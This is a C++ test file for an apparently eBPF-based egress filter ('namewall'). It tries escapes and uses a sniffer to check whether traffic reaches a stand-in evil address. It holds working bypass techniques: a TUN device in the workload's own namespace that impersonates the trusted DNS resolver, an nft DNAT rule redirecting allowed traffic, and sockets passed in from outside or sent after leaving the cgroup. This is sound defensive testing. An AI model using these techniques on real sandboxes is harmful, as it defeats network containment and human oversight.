// Every known way around: closed, or open and listed in docs/ways_around.md. A sniffer at the far end of the wire, in
// another network namespace, is the judge.
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_tun.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/wait.h>

#include <fstream>
#include <set>
#include <thread>

#include "tests/kernel/escape_actions.h"
#include "tests/kernel/support/control_message.h"
#include "tests/kernel/support/sniffer.h"
#include "tests/kernel/support/workload_test.h"

namespace namewall::kernel_tests {
namespace {

using testing::IsEmpty;

class Escapes : public WorkloadTest {
 protected:
  void SetUp() override {
    WorkloadTest::SetUp();
    if (HasFatalFailure()) return;
    auto policy = make_policy({"example.com", "*://192.0.2.1:443", "*://[2001:db8::1]:443", "icmp://192.0.2.1"});
    policy.loopback = Loopback::kOwn;
    arm(policy);
  }

  // True when something went out that must not: to the evil address, or with the secret in it.
  bool leaked() {
    bool leak = false;
    for (const auto& packet : sniffer_.take()) {
      const auto to = destination_of(packet);
      leak |= to == ip(kEvil4) || to == ip(kEvil6) || contains_text(packet, kSecret);
    }
    return leak;
  }
  bool leaks(const std::function<void()>& act) {
    sniffer_.take();
    in_cgroup(cgroup_, act);
    return leaked();
  }
  void expect(const std::vector<EscapeAction>& actions) {
    for (const auto& action : actions) {
      EXPECT_EQ(leaks(action.act), action.leaks) << action.id << (action.leaks ? " is listed as open" : " got out");
    }
  }

  Sniffer sniffer_{network_};
};

TEST_F(Escapes, SnifferSeesWhatIsAllowedAndWhatComesFromOutside) {
  EXPECT_TRUE(leaks([] {
    enter_outer_cgroup();
    udp_send_to(ip(kEvil4), 443);
  })) << "else every test here passes for nothing";
  EXPECT_EQ(tcp_inside(ip(kAllowed4)), 0);
  EXPECT_EQ(tcp_inside(ip(kAllowed6)), 0);
  EXPECT_EQ(in_cgroup(cgroup_, [] { return udp_connect_and_send(ip(kAllowed6), 443); }), 0);
  EXPECT_EQ(in_cgroup(cgroup_, [] { return look_up(far_resolver(), "example.com", 16); }).send_error, 0);
}

TEST_F(Escapes, SocketCallsReachNothingForbidden) { expect(socket_escapes()); }
TEST_F(Escapes, HeadersAndRawPacketsReachNothingForbiddenButWhatIsListed) { expect(packet_escapes()); }
TEST_F(Escapes, QuestionsCarryNoOtherName) { expect(question_escapes()); }

// Without a program the same actions do leak: the table above tests the programs, not the kernel's own refusals. Those
// that the kernel refuses by itself on some hosts are left out.
TEST_F(Escapes, MostActionsWouldLeakWithoutThePrograms) {
  ASSERT_TRUE(enforcer_->disarm(cgroup_.fd(), workload_));
  std::size_t actions = 0, leaking = 0;
  for (const auto& table : {socket_escapes(), packet_escapes(), question_escapes()}) {
    for (const auto& action : table) ++actions, leaking += leaks(action.act);
  }
  EXPECT_GE(leaking * 10, actions * 7) << leaking << " of " << actions;
}

TEST_F(Escapes, SocketKeepsItsCgroupWhenItsProcessLeaves) {
  EXPECT_FALSE(leaks([] {
    const auto client = make_socket(AF_INET, SOCK_DGRAM);
    enter_outer_cgroup();
    const SocketAddress to(ip(kEvil4), 443);
    sendto(client.get(), "x", 1, 0, to.get(), to.length);
    connect(client.get(), to.get(), to.length);
    send(client.get(), "x", 1, 0);
  }));
}

TEST_F(Escapes, NewNetworkNamespaceIsHeldToo) {
  const int error = in_cgroup(cgroup_, [] {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0) return -1;
    return tcp_connect(ip(kEvil4), 443);
  });
  EXPECT_EQ(error, ECONNREFUSED) << "the programs belong to the cgroup, not to the namespace";
}

// ---- the workload teaches itself through a network namespace of its own ----

void write_text(const char* path, const std::string& text) {
  std::ofstream file(path);
  file << text;
}

// RFC 1071, of 16-bit words in network order; `sum` carries a pseudo header's.
std::uint16_t internet_checksum(const std::uint8_t* bytes, std::size_t size, std::uint32_t sum = 0) {
  for (std::size_t i = 0; i < size; ++i) sum += static_cast<std::uint32_t>(bytes[i]) << (i % 2 == 0 ? 8 : 0);
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

void put_u16(Bytes& bytes, std::size_t at, std::size_t value) {
  bytes[at] = static_cast<std::uint8_t>(value >> 8);
  bytes[at + 1] = static_cast<std::uint8_t>(value);
}

// The IPv4 and UDP packet that answers `packet`, from where that one went to.
Bytes answer_packet(const Bytes& packet) {
  const Bytes question(packet.begin() + 28, packet.end());
  const auto message = make_answer(question, {{"example.com", 600, "", ip(kEvil4)}});
  Bytes answer(28, 0);
  answer[0] = 0x45;
  put_u16(answer, 2, 28 + message.size());
  answer[8] = 64;
  answer[9] = IPPROTO_UDP;
  std::copy_n(packet.begin() + 16, 4, answer.begin() + 12);
  std::copy_n(packet.begin() + 12, 4, answer.begin() + 16);
  put_u16(answer, 10, internet_checksum(answer.data(), 20));
  std::copy_n(packet.begin() + 22, 2, answer.begin() + 20);
  std::copy_n(packet.begin() + 20, 2, answer.begin() + 22);
  put_u16(answer, 24, 8 + message.size());
  answer.insert(answer.end(), message.begin(), message.end());
  std::uint32_t pseudo_header = IPPROTO_UDP + 8 + static_cast<std::uint32_t>(message.size());
  for (std::size_t i = 12; i < 20; i += 2) pseudo_header += static_cast<std::uint32_t>(answer[i] << 8 | answer[i + 1]);
  put_u16(answer, 26, internet_checksum(answer.data() + 20, answer.size() - 20, pseudo_header));
  return answer;
}

// A TUN device that everything beyond it leads to; -1 where this namespace may not have one.
OwnedFd open_tun() {
  OwnedFd tun(open("/dev/net/tun", O_RDWR | O_CLOEXEC));
  ifreq device{};
  std::strcpy(device.ifr_name, "nwh-tun");
  device.ifr_flags = IFF_TUN | IFF_NO_PI;
  if (tun.get() < 0 || ioctl(tun.get(), TUNSETIFF, &device) != 0) return OwnedFd();
  run_command({"ip", "addr", "add", "10.77.0.2/24", "dev", device.ifr_name});
  run_command({"ip", "link", "set", device.ifr_name, "up"});
  return tun;
}

// In a fresh network namespace: a TUN device behind which the workload itself plays the far trusted resolver. Returns
// what came of asking it for an allowed name.
LookupOutcome ask_own_resolver_in_own_netns(bool with_user_namespace) {
  LookupOutcome outcome;
  const auto uid = geteuid(), gid = getegid();
  if (unshare(CLONE_NEWNET | (with_user_namespace ? CLONE_NEWUSER : 0)) != 0) {
    outcome.send_error = -1;
    return outcome;
  }
  if (with_user_namespace) {
    write_text("/proc/self/setgroups", "deny");
    write_text("/proc/self/uid_map", "0 " + std::to_string(uid) + " 1");
    write_text("/proc/self/gid_map", "0 " + std::to_string(gid) + " 1");
  }
  const auto tun = open_tun();
  if (tun.get() < 0) {
    outcome.send_error = -2;
    return outcome;
  }
  std::thread serving([&tun] {
    const auto to = ip("10.77.0.1").v4_bytes();
    const auto end = std::chrono::steady_clock::now() + milliseconds(400);
    pollfd arrival{tun.get(), POLLIN, 0};
    while (std::chrono::steady_clock::now() < end) {
      if (poll(&arrival, 1, 50) <= 0) continue;
      Bytes packet(2048);
      const ssize_t n = read(tun.get(), packet.data(), packet.size());
      if (n <= 28) continue;
      packet.resize(static_cast<std::size_t>(n));
      if (packet[0] != 0x45 || packet[9] != IPPROTO_UDP || !std::equal(to.begin(), to.end(), packet.begin() + 16))
        continue;
      const auto answer = answer_packet(packet);
      if (write(tun.get(), answer.data(), answer.size()) < 0) return;
    }
  });
  outcome = look_up(far_resolver(), "example.com", 1, milliseconds(400));
  serving.join();
  return outcome;
}

TEST_F(Escapes, OwnNetworkNamespaceCannotPlayTheTrustedResolver) {
  const auto outcome = in_cgroup(cgroup_, [] { return ask_own_resolver_in_own_netns(true); });
  ASSERT_GE(outcome.send_error, 0) << "the attack itself did not run";
  EXPECT_FALSE(outcome.delivered());
  EXPECT_THAT(granted_addresses(), IsEmpty());
  EXPECT_EQ(tcp_inside(ip(kEvil4)), ECONNREFUSED);
  EXPECT_GE(count_of(NW_REASON_UNTRUSTED_NETNS), 1u);
}

TEST_F(Escapes, OwnNetworkNamespaceWouldTeachIfItWereTrusted) {
  // The same attack without the programs' check of the namespace: proof that the attack works at all.
  ASSERT_TRUE(enforcer_->disarm(cgroup_.fd(), workload_));
  const auto outcome = in_cgroup(cgroup_, [] { return ask_own_resolver_in_own_netns(true); });
  EXPECT_TRUE(outcome.delivered());
}

// ---- what stays open: listed, with the reason ----

std::set<std::string> listed_ways() {
  std::ifstream table(std::string(NAMEWALL_SOURCE_DIR) + "/docs/ways_around.md");
  std::set<std::string> ids;
  for (std::string line; std::getline(table, line);) {
    if (line.rfind("| `", 0) == 0) ids.insert(line.substr(3, line.find('`', 3) - 3));
  }
  return ids;
}

TEST_F(Escapes, ListOfWhatStaysOpenIsTheTruth) {
  std::set<std::string> open;
  for (const auto& table : {socket_escapes(), packet_escapes(), question_escapes()}) {
    for (const auto& action : table) {
      if (action.leaks) open.insert(action.id);
    }
  }
  // A socket made outside and passed in.
  int channel[2];
  ASSERT_EQ(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, channel), 0);
  {
    const auto outside = make_socket(AF_INET, SOCK_DGRAM);
    const SocketAddress to(ip(kEvil4), 443);
    connect(outside.get(), to.get(), to.length);
    pass_socket(channel[0], outside.get());
  }
  if (leaks([&] { send(receive_socket(channel[1]).get(), "x", 1, 0); })) open.insert("passed-connected-socket");
  {
    const auto outside = make_socket(AF_INET, SOCK_DGRAM);
    pass_socket(channel[0], outside.get());
  }
  if (leaks([&] {
        const SocketAddress to(ip(kEvil4), 443);
        sendto(receive_socket(channel[1]).get(), "x", 1, 0, to.get(), to.length);
      })) {
    open.insert("passed-unconnected-socket");
  }
  close(channel[0]), close(channel[1]);
  // A process that leaves the cgroup and makes a new socket.
  if (leaks([] { enter_outer_cgroup() ? (void)udp_send_to(ip(kEvil4), 443) : (void)0; })) open.insert("left-cgroup");
  // Group membership reports: the kernel sends them without a socket.
  sniffer_.take();
  in_cgroup(cgroup_, [] {
    const auto client = make_socket(AF_INET, SOCK_DGRAM);
    ip_mreqn group{};
    std::memcpy(&group.imr_multiaddr, ip("239.7.7.7").v4_bytes().data(), 4);
    group.imr_ifindex = static_cast<int>(if_nametoindex(kNearDevice));
    setsockopt(client.get(), IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof(group));
    std::this_thread::sleep_for(milliseconds(20));
  });
  for (const auto& packet : sniffer_.take()) {
    if (packet.size() > 9 && packet[0] >> 4 == 4 && packet[9] == IPPROTO_IGMP) open.insert("group-membership");
  }
  // CAP_NET_ADMIN in the workload's own network namespace: translation after the connect hook.
  if (leaks([] {
        run_command({"nft",
                     "add table ip nwharness; add chain ip nwharness out { type nat hook output priority -100; }; "
                     "add rule ip nwharness out ip daddr 192.0.2.1 udp dport 443 dnat to 203.0.113.66:443"});
        udp_send_to(ip(kAllowed4), 443);
        run_command({"nft", "delete table ip nwharness"});
      })) {
    open.insert("net-admin-translation");
  }
  // A network namespace that the host's own user namespace owns is trusted: making one needs CAP_SYS_ADMIN of the host.
  in_cgroup(cgroup_, [] { ask_own_resolver_in_own_netns(false); });
  if (tcp_inside(ip(kEvil4)) == 0) open.insert("sys-admin-own-resolver");
  // Families that are not IP have no hooks.
  auto listed = listed_ways();
  const auto has_vsock = [] { return make_socket(40 /* AF_VSOCK */, SOCK_STREAM).get() >= 0; };
  if (!has_vsock())
    listed.erase("vsock");  // this kernel has no such sockets
  else if (in_cgroup(cgroup_, has_vsock))
    open.insert("vsock");
  EXPECT_EQ(open, listed);
}

}  // namespace
}  // namespace namewall::kernel_tests
